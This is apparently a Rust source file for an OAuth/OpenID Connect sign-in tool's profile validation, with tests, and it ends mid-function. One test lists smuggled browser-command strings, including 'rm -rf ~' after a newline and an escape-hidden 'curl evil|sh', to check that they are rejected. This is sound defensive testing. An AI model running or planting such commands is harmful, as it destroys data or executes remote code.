use std::collections::BTreeMap;
use std::fmt;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};
use url::Url;

use crate::error::{Error, Result};

/// A profile's name: what the command line and the keychain entries use. Kept to a safe
/// alphabet so it can name lock files and keychain accounts on every platform.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ProfileName(String);

impl ProfileName {
    /// Checks `name` against the safe alphabet: 1–64 ASCII letters, digits, `-`, `_` or `.`,
    /// starting with a letter or digit.
    pub fn new(name: &str) -> Result<Self> {
        let ok_len = !name.is_empty() && name.len() <= 64;
        let ok_chars = name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
        let ok_start = name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric());
        if ok_len && ok_chars && ok_start {
            Ok(Self(name.to_owned()))
        } else {
            Err(Error::invalid_field(
                ProfileField::Name,
                format!(
                    "invalid profile name `{name}`: use 1–64 letters, digits, `-`, `_` or `.`, \
                     starting with a letter or digit"
                ),
            ))
        }
    }

    /// The name as written.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether two names would share a keychain entry or a lock file somewhere: Windows'
    /// Credential Manager and case-insensitive file systems ignore case.
    pub fn collides_with(&self, other: &ProfileName) -> bool {
        self.0.eq_ignore_ascii_case(&other.0)
    }

    /// The error for adding `self` where `existing` is (the same name, or one that collides).
    pub(crate) fn duplicate_of(&self, existing: &ProfileName) -> Error {
        Error::DuplicateProfile(if self == existing {
            self.to_string()
        } else {
            format!("{self} (as `{existing}`: names may not differ only in case)")
        })
    }
}

impl fmt::Display for ProfileName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A profile's fields, as an error names the one to blame.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ProfileField {
    /// The profile's name.
    Name,
    /// The issuer URL.
    Issuer,
    /// The explicit authorization endpoint.
    AuthorizationEndpoint,
    /// The explicit token endpoint.
    TokenEndpoint,
    /// The explicit revocation endpoint.
    RevocationEndpoint,
    /// The explicit userinfo endpoint.
    UserinfoEndpoint,
    /// The client id.
    ClientId,
    /// The client authentication method.
    ClientAuth,
    /// The scopes.
    Scopes,
    /// The extra authorization parameters.
    Params,
    /// The redirect URI.
    RedirectUri,
    /// The browser command.
    Browser,
    /// The device authorization endpoint (explicit endpoints).
    DeviceAuthorizationEndpoint,
    /// The sign-in flow.
    Flow,
    /// The CA certificate file trusted for this provider.
    CaFile,
    /// The expected account's subject.
    ExpectSub,
    /// The expected account's email.
    ExpectEmail,
}

/// A way to sign in.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum SignInFlow {
    /// The system browser on this machine, answering on the loopback listener.
    Browser,
    /// The device grant (RFC 8628): a code entered on any other device.
    Device,
    /// A browser elsewhere; the address of the page it lands on is pasted back.
    Paste,
}

impl SignInFlow {
    /// The name the command line and the profile file use.
    pub fn as_str(self) -> &'static str {
        match self {
            SignInFlow::Browser => "browser",
            SignInFlow::Device => "device",
            SignInFlow::Paste => "paste",
        }
    }

    /// A profile's `flow`: `auto` (or nothing) is `None`, chosen at each sign-in.
    pub fn parse(s: &str) -> Result<Option<Self>> {
        match s.trim() {
            "" | "auto" => Ok(None),
            "browser" => Ok(Some(SignInFlow::Browser)),
            "device" => Ok(Some(SignInFlow::Device)),
            "paste" => Ok(Some(SignInFlow::Paste)),
            other => Err(Error::invalid_field(
                ProfileField::Flow,
                format!(
                    "unknown sign-in flow `{}` (use auto, browser, device or paste)",
                    crate::text::terminal_safe(other)
                ),
            )),
        }
    }
}

/// The account a profile is pinned to: a sign-in as anyone else is refused and stores nothing.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ExpectedAccount {
    /// The ID token's `sub` must be this.
    pub sub: Option<String>,
    /// The ID token's `email` must be this (compared without regard to case).
    pub email: Option<String>,
}

impl ExpectedAccount {
    /// Whether anything is pinned.
    pub fn is_set(&self) -> bool {
        self.sub.is_some() || self.email.is_some()
    }

    /// Who is expected, in words (`sub alice`, `email a@example.com`).
    pub fn describe(&self) -> String {
        let mut parts = Vec::new();
        if let Some(s) = &self.sub {
            parts.push(format!("sub {s}"));
        }
        if let Some(e) = &self.email {
            parts.push(format!("email {e}"));
        }
        parts.join(", ")
    }

    /// Whether the signed-in account (its `sub` and `email` claims) is the expected one.
    pub fn matches(&self, sub: Option<&str>, email: Option<&str>) -> bool {
        let sub_ok = self.sub.as_deref().is_none_or(|want| sub == Some(want));
        let email_ok = self
            .email
            .as_deref()
            .is_none_or(|want| email.is_some_and(|got| got.eq_ignore_ascii_case(want)));
        sub_ok && email_ok
    }
}

/// Where a profile's endpoints come from.
// A handful of profiles live at a time; boxing the larger variant would buy nothing.
#[allow(clippy::large_enum_variant)]
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Provider {
    /// Discovered from `{issuer}/.well-known/openid-configuration`, falling back to RFC 8414.
    /// Kept exactly as written: it is compared byte for byte with the provider's `issuer`/`iss`
    /// (`https://tenant.example/` and `https://tenant.example` are different issuers).
    Issuer {
        /// The issuer identifier.
        issuer: String,
    },
    /// A plain OAuth 2.0 server with endpoints given explicitly.
    Endpoints {
        /// Where the person signs in.
        authorization: Url,
        /// Where codes and refresh tokens are exchanged for tokens.
        token: Url,
        /// Where sign-out revokes the refresh token (RFC 7009), if the server has one.
        revocation: Option<Url>,
        /// Where the device grant (RFC 8628) starts, if the server offers it.
        device: Option<Url>,
        /// The userinfo endpoint, if the server has one.
        userinfo: Option<Url>,
    },
}

/// The loopback host in the redirect URI (RFC 8252 §7.3). `127.0.0.1` is the default because
/// `localhost` can resolve to another interface or to IPv6 first.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LoopbackHost {
    /// `127.0.0.1`.
    Ipv4,
    /// `localhost`, bound on `127.0.0.1`.
    Localhost,
    /// `[::1]`.
    Ipv6,
}

impl LoopbackHost {
    /// The host as the redirect URI spells it.
    pub(crate) fn uri_host(self) -> &'static str {
        match self {
            LoopbackHost::Ipv4 => "127.0.0.1",
            LoopbackHost::Localhost => "localhost",
            LoopbackHost::Ipv6 => "[::1]",
        }
    }

    /// The address actually bound: never a wildcard.
    pub(crate) fn bind_ip(self) -> std::net::IpAddr {
        match self {
            LoopbackHost::Ipv4 | LoopbackHost::Localhost => std::net::Ipv4Addr::LOCALHOST.into(),
            LoopbackHost::Ipv6 => std::net::Ipv6Addr::LOCALHOST.into(),
        }
    }
}

/// Whether the URI spells out `:80`, which `url` drops as the http default: an explicit port
/// is a fixed one, not "pick a free port".
fn explicit_default_port(uri: &str) -> bool {
    let rest = uri.split_once("://").map_or(uri, |(_, r)| r);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    authority.ends_with(":80")
}

/// The redirect URI template: host, port (0 = ephemeral, chosen when the listener binds) and path.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Redirect {
    /// The loopback host.
    pub host: LoopbackHost,
    /// The port; 0 means a free one is chosen for each sign-in.
    pub port: u16,
    /// The path the browser is sent back to.
    pub path: String,
}

impl Default for Redirect {
    fn default() -> Self {
        Self {
            host: LoopbackHost::Ipv4,
            port: 0,
            path: "/callback".into(),
        }
    }
}

impl Redirect {
    /// Parses a loopback redirect URI: `http` on `127.0.0.1`, `localhost` or `[::1]`, with no
    /// query, fragment or user info. Without a port, a free one is chosen for each sign-in.
    pub fn parse(uri: &str) -> Result<Self> {
        let bad = |why: &str| {
            Error::invalid_field(
                ProfileField::RedirectUri,
                format!(
                    "invalid redirect URI `{uri}`: {why} (expected e.g. \
                     http://127.0.0.1/callback or http://127.0.0.1:8400/callback)"
                ),
            )
        };
        let url = Url::parse(uri).map_err(|e| bad(&e.to_string()))?;
        if url.scheme() != "http" {
            return Err(bad("a loopback redirect uses http"));
        }
        let host = match url.host() {
            Some(url::Host::Ipv4(ip)) if ip == std::net::Ipv4Addr::LOCALHOST => LoopbackHost::Ipv4,
            Some(url::Host::Ipv6(ip)) if ip == std::net::Ipv6Addr::LOCALHOST => LoopbackHost::Ipv6,
            Some(url::Host::Domain("localhost")) => LoopbackHost::Localhost,
            _ => return Err(bad("the host must be 127.0.0.1, localhost or [::1]")),
        };
        if url.query().is_some() || url.fragment().is_some() {
            return Err(bad("no query or fragment allowed"));
        }
        if !url.username().is_empty() || url.password().is_some() {
            return Err(bad("no user info allowed"));
        }
        Ok(Self {
            host,
            port: url
                .port()
                .unwrap_or(if explicit_default_port(uri) { 80 } else { 0 }),
            path: url.path().to_owned(),
        })
    }

    /// The URI sent to the provider once the listener is bound on `port`.
    pub(crate) fn uri_for_port(&self, port: u16) -> String {
        format!("http://{}:{}{}", self.host.uri_host(), port, self.path)
    }
}

impl fmt::Display for Redirect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.port == 0 {
            write!(f, "http://{}{}", self.host.uri_host(), self.path)
        } else {
            f.write_str(&self.uri_for_port(self.port))
        }
    }
}

/// Authorization parameters Pixie sets itself and a profile may not override.
const RESERVED_PARAMS: &[&str] = &[
    "response_type",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "nonce",
    "code_challenge",
    "code_challenge_method",
    "response_mode",
];

/// How a confidential client authenticates at the token endpoint (RFC 6749 §2.3.1).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum ClientAuth {
    /// HTTP Basic (`client_secret_basic`), the default.
    #[default]
    Basic,
    /// In the request body (`client_secret_post`), for clients registered that way.
    Post,
}

impl ClientAuth {
    /// Parses a method: `client_secret_basic` (or `basic`) or `client_secret_post` (or `post`).
    pub fn parse(s: &str) -> Result<Self> {
        match s {
            "client_secret_basic" | "basic" => Ok(Self::Basic),
            "client_secret_post" | "post" => Ok(Self::Post),
            other => Err(Error::invalid_field(
                ProfileField::ClientAuth,
                format!(
                    "unknown client authentication `{other}` (use client_secret_basic or \
                     client_secret_post)"
                ),
            )),
        }
    }

    /// The method's name in provider metadata and in the profile file.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Basic => "client_secret_basic",
            Self::Post => "client_secret_post",
        }
    }
}

/// A validated provider profile.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Profile {
    /// The profile's name.
    pub name: ProfileName,
    /// Where the endpoints come from.
    pub provider: Provider,
    /// The client id registered with the provider.
    pub client_id: String,
    /// Whether a client secret is kept in the keychain for this profile.
    pub client_secret_in_keychain: bool,
    /// How a client secret is sent to the token endpoint.
    pub client_auth: ClientAuth,
    /// The scopes to ask for, each once, in order.
    pub scopes: Vec<String>,
    /// Extra authorization request parameters (e.g. `prompt`); ones Pixie sets itself are refused.
    pub params: BTreeMap<String, String>,
    /// The loopback redirect URI.
    pub redirect: Redirect,
    /// A command that opens the sign-in page for this profile: `%s` in it is replaced by the URL,
    /// else the URL is appended. Tried after `$BROWSER`, before the platform's default.
    pub browser: Option<String>,
    /// How a sign-in goes unless the front says otherwise; `None`: chosen from the surroundings.
    pub flow: Option<SignInFlow>,
    /// A PEM file of CA certificates trusted for this provider besides the system's roots.
    pub ca_file: Option<PathBuf>,
    /// The account this profile is for.
    pub expected: ExpectedAccount,
    /// Sign-out also ends the provider's browser session (OpenID Connect RP-Initiated Logout).
    pub browser_logout: bool,
}

impl Profile {
    /// Whether the profile asks for an ID token (and so a nonce and ID-token verification).
    pub fn wants_openid(&self) -> bool {
        self.scopes.iter().any(|s| s == "openid")
    }

    /// The issuer the profile names, if it names one.
    pub fn issuer(&self) -> Option<&str> {
        match &self.provider {
            Provider::Issuer { issuer } => Some(issuer),
            Provider::Endpoints { .. } => None,
        }
    }

    /// The profile as the profile file and exports write it (defaults left out).
    pub fn to_record(&self) -> ProfileRecord {
        let (issuer, authorization, token, revocation, userinfo) = match &self.provider {
            Provider::Issuer { issuer } => (Some(issuer.clone()), None, None, None, None),
            Provider::Endpoints {
                authorization,
                token,
                revocation,
                userinfo,
                device: _,
            } => (
                None,
                Some(authorization.to_string()),
                Some(token.to_string()),
                revocation.as_ref().map(Url::to_string),
                userinfo.as_ref().map(Url::to_string),
            ),
        };
        let device = match &self.provider {
            Provider::Endpoints { device, .. } => device.as_ref().map(Url::to_string),
            Provider::Issuer { .. } => None,
        };
        ProfileRecord {
            name: self.name.to_string(),
            issuer,
            authorization_endpoint: authorization,
            token_endpoint: token,
            revocation_endpoint: revocation,
            userinfo_endpoint: userinfo,
            client_id: self.client_id.clone(),
            client_secret_in_keychain: self.client_secret_in_keychain,
            client_auth: (self.client_auth != ClientAuth::Basic)
                .then(|| self.client_auth.as_str().to_owned()),
            scopes: self.scopes.clone(),
            params: self.params.clone(),
            redirect_uri: (self.redirect != Redirect::default()).then(|| self.redirect.to_string()),
            browser: self.browser.clone(),
            device_authorization_endpoint: device,
            flow: self.flow.map(|f| f.as_str().to_owned()),
            ca_file: self.ca_file.as_ref().map(|p| p.display().to_string()),
            expect_sub: self.expected.sub.clone(),
            expect_email: self.expected.email.clone(),
            browser_logout: self.browser_logout,
        }
    }
}

/// The serialised form of a profile: one `[[profiles]]` table in the profile file, one object in
/// an export. Unknown fields are refused so that a typo (or a pasted `client_secret`) is caught.
#[derive(Clone, Debug, Default, Serialize, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct ProfileRecord {
    /// The profile's name.
    pub name: String,
    /// The issuer URL, when the endpoints are discovered.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub issuer: Option<String>,
    /// The authorization endpoint, when there is no issuer.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub authorization_endpoint: Option<String>,
    /// The token endpoint, when there is no issuer.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub token_endpoint: Option<String>,
    /// The revocation endpoint, when there is no issuer (optional).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub revocation_endpoint: Option<String>,
    /// The userinfo endpoint, when there is no issuer (optional).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub userinfo_endpoint: Option<String>,
    /// The client id.
    pub client_id: String,
    /// Whether the keychain holds a client secret for the profile (never the secret itself).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub client_secret_in_keychain: bool,
    /// `client_secret_basic` (default) or `client_secret_post`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub client_auth: Option<String>,
    /// The scopes to ask for; an entry may hold several, separated by spaces.
    #[serde(default)]
    pub scopes: Vec<String>,
    /// Extra authorization request parameters.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub params: BTreeMap<String, String>,
    /// The redirect URI, when it is not the default `http://127.0.0.1/callback`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub redirect_uri: Option<String>,
    /// The browser command.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub browser: Option<String>,
    /// The device authorization endpoint, when there is no issuer (optional).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub device_authorization_endpoint: Option<String>,
    /// `auto` (the default), `browser`, `device` or `paste`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub flow: Option<String>,
    /// An absolute path to a PEM file of CA certificates to trust for this provider.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub ca_file: Option<String>,
    /// The only `sub` a sign-in may be for.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expect_sub: Option<String>,
    /// The only `email` a sign-in may be for.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expect_email: Option<String>,
    /// Sign-out also ends the provider's browser session.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub browser_logout: bool,
}

/// Parses an endpoint or issuer URL. TLS is required except on loopback (local test servers).
pub fn parse_endpoint(field: &str, value: &str) -> Result<Url> {
    let url = Url::parse(value.trim())
        .map_err(|e| Error::invalid(format!("{field}: `{value}` is not a URL ({e})")))?;
    let loopback = match url.host() {
        Some(url::Host::Ipv4(ip)) => ip.is_loopback(),
        Some(url::Host::Ipv6(ip)) => ip.is_loopback(),
        Some(url::Host::Domain(d)) => d == "localhost",
        None => false,
    };
    match url.scheme() {
        "https" => {}
        "http" if loopback => {}
        "http" => {
            return Err(Error::invalid(format!(
                "{field}: `{value}` must use https (plain http is only allowed on loopback)"
            )))
        }
        other => {
            return Err(Error::invalid(format!(
                "{field}: `{value}` has unsupported scheme `{other}`"
            )))
        }
    }
    if url.fragment().is_some() {
        return Err(Error::invalid(format!(
            "{field}: `{value}` must not have a fragment"
        )));
    }
    Ok(url)
}

impl Profile {
    /// The scopes a profile with an issuer asks for unless told otherwise: an ID token, a
    /// refresh token, and the claims the claims view shows. The CLI and the app both use it.
    pub const DEFAULT_SCOPES: &'static [&'static str] =
        &["openid", "offline_access", "profile", "email"];

    /// Where the profile's endpoints are, in one line for a person to compare.
    pub fn endpoint_summary(&self) -> String {
        match &self.provider {
            Provider::Issuer { issuer } => format!("issuer {issuer}"),
            Provider::Endpoints {
                authorization,
                token,
                revocation,
                ..
            } => {
                let mut s = format!("authorization {authorization}, token {token}");
                if let Some(r) = revocation {
                    s.push_str(&format!(", revocation {r}"));
                }
                s
            }
        }
    }

    /// The authorization endpoint's host and another host that tokens go to, when there is one
    /// (explicit endpoints only): the token or revocation endpoint on a host the sign-in page is
    /// not on receives the code, refresh tokens and the client secret.
    pub fn split_endpoints(&self) -> Option<(String, String)> {
        let Provider::Endpoints {
            authorization,
            token,
            revocation,
            ..
        } = &self.provider
        else {
            return None;
        };
        let a = authorization.host_str()?;
        std::iter::once(token)
            .chain(revocation)
            .filter_map(|u| u.host_str())
            .find(|h| !h.eq_ignore_ascii_case(a))
            .map(|h| (a.to_owned(), h.to_owned()))
    }

    /// The browser command as the words it runs (program first), for a person to check.
    pub fn browser_words(&self) -> Option<Vec<String>> {
        shell_words::split(self.browser.as_deref()?).ok()
    }
}

impl TryFrom<ProfileRecord> for Profile {
    type Error = Error;

    fn try_from(r: ProfileRecord) -> Result<Self> {
        let name = ProfileName::new(&r.name)?;
        let invalid = |msg: String| Error::invalid(format!("profile `{name}`: {msg}"));
        let at = |field: ProfileField| move |msg: String| invalid(msg).at(field);
        let opt = |field: ProfileField, what: &str, v: &Option<String>| -> Result<Option<Url>> {
            v.as_deref()
                .filter(|s| !s.trim().is_empty())
                .map(|s| parse_endpoint(what, s).map_err(|e| e.at(field)))
                .transpose()
        };
        use ProfileField as F;
        let authorization = opt(
            F::AuthorizationEndpoint,
            "authorization endpoint",
            &r.authorization_endpoint,
        )?;
        let token = opt(F::TokenEndpoint, "token endpoint", &r.token_endpoint)?;
        let revocation = opt(
            F::RevocationEndpoint,
            "revocation endpoint",
            &r.revocation_endpoint,
        )?;
        let userinfo = opt(
            F::UserinfoEndpoint,
            "userinfo endpoint",
            &r.userinfo_endpoint,
        )?;
        let device = opt(
            F::DeviceAuthorizationEndpoint,
            "device authorization endpoint",
            &r.device_authorization_endpoint,
        )?;
        let issuer_text = r.issuer.as_deref().map(str::trim).filter(|s| !s.is_empty());
        let issuer = opt(F::Issuer, "issuer", &r.issuer)?;
        let provider = match (issuer, authorization, token) {
            (Some(issuer), None, None)
                if revocation.is_none() && userinfo.is_none() && device.is_none() =>
            {
                if issuer.query().is_some() {
                    return Err(at(F::Issuer)("the issuer URL must not have a query".into()));
                }
                Provider::Issuer {
                    issuer: issuer_text.unwrap_or_default().to_owned(),
                }
            }
            (None, Some(authorization), Some(token)) => Provider::Endpoints {
                authorization,
                token,
                revocation,
                userinfo,
                device,
            },
            (Some(_), _, _) => return Err(invalid(
                "give either an issuer (endpoints are discovered) or explicit endpoints, not both"
                    .into(),
            )),
            (None, None, None) => {
                return Err(invalid(
                    "give an issuer URL, or an authorization endpoint and a token endpoint".into(),
                ))
            }
            (None, _, _) => {
                return Err(invalid(
                    "explicit endpoints need both an authorization endpoint and a token endpoint"
                        .into(),
                ))
            }
        };
        let client_id = r.client_id.trim().to_owned();
        if client_id.is_empty() {
            return Err(at(F::ClientId)("the client id is empty".into()));
        }
        let mut scopes: Vec<String> = Vec::new();
        for s in r.scopes.iter().flat_map(|s| s.split_whitespace()) {
            if s.chars().any(|c| c == '"' || c == '\\' || c.is_control()) {
                return Err(at(F::Scopes)(format!("invalid scope `{s}`")));
            }
            if !scopes.iter().any(|x| x == s) {
                scopes.push(s.to_owned());
            }
        }
        for key in r.params.keys() {
            if key.is_empty() || key.chars().any(|c| c.is_whitespace() || c == '=') {
                return Err(at(F::Params)(format!("invalid parameter name `{key}`")));
            }
            if RESERVED_PARAMS.contains(&key.as_str()) {
                return Err(at(F::Params)(format!(
                    "parameter `{key}` is set by Pixie itself and cannot be overridden"
                )));
            }
        }
        let redirect = match r.redirect_uri.as_deref().filter(|s| !s.trim().is_empty()) {
            Some(uri) => Redirect::parse(uri.trim())?,
            None => Redirect::default(),
        };
        let browser = r.browser.filter(|b| !b.trim().is_empty());
        if let Some(b) = &browser {
            // A newline, an escape or a bidi override could push the dangerous part of a
            // command out of sight in the confirmation that shows it.
            if b.chars().any(crate::text::is_unsafe) {
                return Err(at(F::Browser)(format!(
                    "the browser command `{}` contains control or invisible characters",
                    crate::text::terminal_safe(b)
                )));
            }
            shell_words::split(b).map_err(|e| {
                at(F::Browser)(format!("browser command `{b}` cannot be parsed: {e}"))
            })?;
        }
        let client_auth = match r.client_auth.as_deref().filter(|s| !s.is_empty()) {
            Some(a) => ClientAuth::parse(a)?,
            None => ClientAuth::default(),
        };
        let flow = match r.flow.as_deref() {
            Some(f) => SignInFlow::parse(f).map_err(|e| e.at(F::Flow))?,
            None => None,
        };
        let ca_file = match r
            .ca_file
            .as_deref()
            .map(str::trim)
            .filter(|s| !s.is_empty())
        {
            Some(path) => {
                if path.chars().any(crate::text::is_unsafe) {
                    return Err(at(F::CaFile)(format!(
                        "the CA file path `{}` contains control or invisible characters",
                        crate::text::terminal_safe(path)
                    )));
                }
                let path = PathBuf::from(path);
                if !path.is_absolute() {
                    return Err(at(F::CaFile)(format!(
                        "the CA file `{}` must be an absolute path",
                        path.display()
                    )));
                }
                Some(path)
            }
            None => None,
        };
        let identity = |field: ProfileField,
                        what: &str,
                        v: Option<String>|
         -> Result<Option<String>> {
            match v.as_deref().map(str::trim).filter(|s| !s.is_empty()) {
                Some(v) if v.chars().count() > 255 || v.chars().any(crate::text::is_unsafe) => {
                    Err(at(field)(format!(
                        "the expected {what} is longer than 255 characters or holds control characters"
                    )))
                }
                v => Ok(v.map(str::to_owned)),
            }
        };
        let expected = ExpectedAccount {
            sub: identity(F::ExpectSub, "subject", r.expect_sub)?,
            email: identity(F::ExpectEmail, "email", r.expect_email)?,
        };
        if expected.is_set() && !scopes.iter().any(|s| s == "openid") {
            return Err(at(if expected.sub.is_some() {
                F::ExpectSub
            } else {
                F::ExpectEmail
            })(
                "pinning an account needs an ID token to check it against: add the `openid` scope"
                    .into(),
            ));
        }
        Ok(Profile {
            name,
            provider,
            client_id,
            client_secret_in_keychain: r.client_secret_in_keychain,
            client_auth,
            scopes,
            params: r.params,
            redirect,
            browser,
            flow,
            ca_file,
            expected,
            browser_logout: r.browser_logout,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record() -> ProfileRecord {
        ProfileRecord {
            name: "work".into(),
            issuer: Some("https://id.example.com".into()),
            client_id: "abc".into(),
            scopes: vec!["openid offline_access".into(), "email".into()],
            ..Default::default()
        }
    }

    #[test]
    fn names_are_restricted() {
        assert!(ProfileName::new("work-1.dev_x").is_ok());
        for bad in ["", "-x", "a b", "a/b", "ä", &"x".repeat(65)] {
            assert!(ProfileName::new(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn scopes_are_split_and_deduplicated() {
        let p = Profile::try_from(record()).unwrap();
        assert_eq!(p.scopes, ["openid", "offline_access", "email"]);
        assert!(p.wants_openid());
    }

    #[test]
    fn issuer_or_endpoints_exclusively() {
        let mut r = record();
        r.token_endpoint = Some("https://id.example.com/token".into());
        assert!(Profile::try_from(r.clone()).is_err());
        r.issuer = None;
        assert!(
            Profile::try_from(r.clone()).is_err(),
            "token without authorization"
        );
        r.authorization_endpoint = Some("https://id.example.com/auth".into());
        assert!(matches!(
            Profile::try_from(r).unwrap().provider,
            Provider::Endpoints { .. }
        ));
    }

    #[test]
    fn plain_http_only_on_loopback() {
        let mut r = record();
        r.issuer = Some("http://id.example.com".into());
        assert!(Profile::try_from(r.clone()).is_err());
        r.issuer = Some("http://127.0.0.1:8080".into());
        assert!(Profile::try_from(r).is_ok());
    }

    #[test]
    fn reserved_params_are_refused() {
        let mut r = record();
        r.params.insert("state".into(), "x".into());
        assert!(Profile::try_from(r.clone()).is_err());
        r.params.clear();
        r.params.insert("audience".into(), "api".into());
        assert!(Profile::try_from(r).is_ok());
    }

    #[test]
    fn a_browser_command_cannot_hide_what_it_runs() {
        for hidden in [
            "firefox\nrm -rf ~",
            "firefox \u{1b}[8mcurl evil|sh",
            "firefox \u{202e}hs.live",
            "firefox\r",
        ] {
            let r = ProfileRecord {
                browser: Some(hidden.into()),
                ..record()
            };
            let err = Profile::try_from(r).unwrap_err().to_string();
            assert!(err.contains("control or invisible"), "{err}");
            assert!(!err.chars().any(crate::text::is_unsafe), "{err:?}");
        }
        let p = Profile::try_from(ProfileRecord {
            browser: Some("firefox --new-window '%s'".into()),
            ..record()
        })
        .unwrap();
        assert_eq!(
            p.browser_words().unwrap(),
            ["firefox", "--new-window", "%s"]
        );
    }

    #[test]
    fn redirect_uris() {
        let r = Redirect::parse("http://127.0.0.1/callback").unwrap();
        assert_eq!(r, Redirect::default());
        let r = Redirect::parse("http://localhost:8400/cb").unwrap();
        assert_eq!(
            (r.host, r.port, r.path.as_str()),
            (LoopbackHost::Localhost, 8400, "/cb")
        );
        assert_eq!(r.uri_for_port(8400), "http://localhost:8400/cb");
        let r = Redirect::parse("http://[::1]:9000/").unwrap();
        assert_eq!(r.host, LoopbackHost::Ipv6);
        // `:80` spelled out is a fixed port, not "pick a free one".
        let r = Redirect::parse("http://127.0.0.1:80/callback").unwrap();
        assert_eq!(r.port, 80);
        assert_eq!(Redirect::parse(&r.to_string()).unwrap(), r);
        assert_eq!(Redirect::parse("http://[::1]:80/cb").unwrap().port, 80);
        assert_eq!(
            Redirect::parse("http://127.0.0.1:8080/cb").unwrap().port,
            8080
        );
        for bad in [
            "https://127.0.0.1/cb",
            "http://example.com/cb",
            "http://0.0.0.0/cb",
            "http://127.0.0.1/cb?x=1",
        ] {
            assert!(Redirect::parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn record_round_trip_keeps_issuer_as_written() {
        let p = Profile::try_from(record()).unwrap();
        let r = p.to_record();
        assert_eq!(r.issuer.as_deref(), Some("https://id.example.com"));
        assert_eq!(r.redirect_uri, None);
        assert_eq!(Profile::try_from(r).unwrap(), p);
    }

    #[test]
    fn issuer_is_kept_exactly_as_written() {
        for issuer in [
            "https://tenant.example.com/",
            "https://tenant.example.com",
            "https://a.example/t/1",
        ] {
            let mut r = record();
            r.issuer = Some(issuer.into());
            let p = Profile::try_from(r).unwrap();
            assert_eq!(p.issuer(), Some(issuer));
            assert_eq!(p.to_record().issuer.as_deref(), Some(issuer));
        }
    }

    #[test]
    fn client_auth_is_validated() {
        let mut r = record();
        r.client_auth = Some("client_secret_post".into());
        assert_eq!(
            Profile::try_from(r.clone()).unwrap().client_auth,
            ClientAuth::Post
        );
        r.client_auth = Some("private_key_jwt".into());
        assert!(Profile::try_from(r).is_err());
    }

    /// Mostly text of the `valid` shape, sometimes anything.
    fn mostly(valid: &'static str) -> impl proptest::strategy::Strategy<Value = String> {
        proptest::prop_oneof![9 => valid, 1 => "(?s).{0,12}"]
    }

    fn any_url() -> impl proptest::strategy::Strategy<Value = String> {
        proptest::prop_oneof![
            4 => "https://[a-z]{1,8}\\.example(:[0-9]{1,5})?(/[a-zA-Z0-9._~%-]{0,8}){0,3}/?",
            4 => "http://(127\\.0\\.0\\.1|localhost|\\[::1\\])(:[0-9]{1,5})?(/[a-z]{0,5}){0,2}",
            1 => " ?https://[a-z]{1,4}\\.example/(?s).{0,12}",
            1 => "(?s).{0,16}",
        ]
    }

    fn any_record() -> impl proptest::strategy::Strategy<Value = ProfileRecord> {
        use proptest::collection::{btree_map, vec};
        use proptest::option::of;
        use proptest::strategy::Strategy;
        let endpoints = (any_url(), any_url(), of(any_url()), of(any_url()));
        let redirect = of(mostly(
            "http://(127\\.0\\.0\\.1|localhost|\\[::1\\])(:[0-9]{1,5})?(/[a-zA-Z0-9%._~-]{0,6}){0,2}/?",
        ));
        let client = (
            mostly("[a-zA-Z0-9][a-zA-Z0-9._-]{0,8}"),
            " ?[a-z0-9-]{0,8} ?",
            proptest::bool::ANY,
            of(mostly("client_secret_basic|client_secret_post|basic|post")),
        );
        let request = (
            vec(mostly("[ -~&&[^\"\\\\]]{0,12}"), 0..4),
            btree_map(mostly("[a-z_]{1,8}"), "(?s).{0,8}", 0..3),
            redirect,
            of(mostly("[a-z]{1,8}( --?[a-z-]{1,8}){0,3}( '?%s'?)?")),
        );
        let sign_in = (
            of(any_url()),
            of(mostly("auto|browser|device|paste")),
            of(mostly("/[a-z]{1,8}/[a-z]{1,8}\\.pem|[a-z]{1,8}\\.pem")),
            of(mostly("[a-zA-Z0-9@._-]{0,12}")),
            of(mostly("[a-z]{1,6}@[a-z]{1,6}\\.example")),
            proptest::bool::ANY,
        );
        // 0: an issuer alone, 1: endpoints alone (the valid shapes), 2: both, 3: half the endpoints.
        let shape = 0..4u8;
        (shape, any_url(), endpoints, client, request, sign_in).prop_map(
            |(shape, issuer, (auth, token, revocation, userinfo), client, request, sign_in)| {
